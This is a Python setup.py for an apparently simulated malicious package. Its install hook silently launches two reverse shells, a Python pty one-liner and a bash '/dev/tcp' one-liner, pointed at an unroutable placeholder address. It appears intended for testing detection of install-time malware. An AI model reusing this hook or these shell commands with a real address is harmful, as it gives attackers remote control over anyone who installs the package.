# SPDX-License-Identifier: Apache-2.0
"""Harmless: the address is routed nowhere, so that the shell has nobody at its other end."""

import os
import signal
import subprocess

from setuptools import setup
from setuptools.command.install import install

PYTHON = (
    "import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.settimeout(1);"
    's.connect(("240.0.0.60",9001));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);pty.spawn("/bin/sh")'
)


class Install(install):
    def run(self):
        install.run(self)
        null = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
        for command in (
            ["python3", "-c", PYTHON],
            ["bash", "-c", "bash -i >& /dev/tcp/240.0.0.60/9002 0>&1"],
        ):
            shell = subprocess.Popen(command, start_new_session=True, **null)
            try:
                shell.wait(2)
            except subprocess.TimeoutExpired:
                os.killpg(shell.pid, signal.SIGKILL)


setup(name="sim-reverse-shell-pty", version="1.0.0", py_modules=["sim_rsp"], cmdclass={"install": Install})
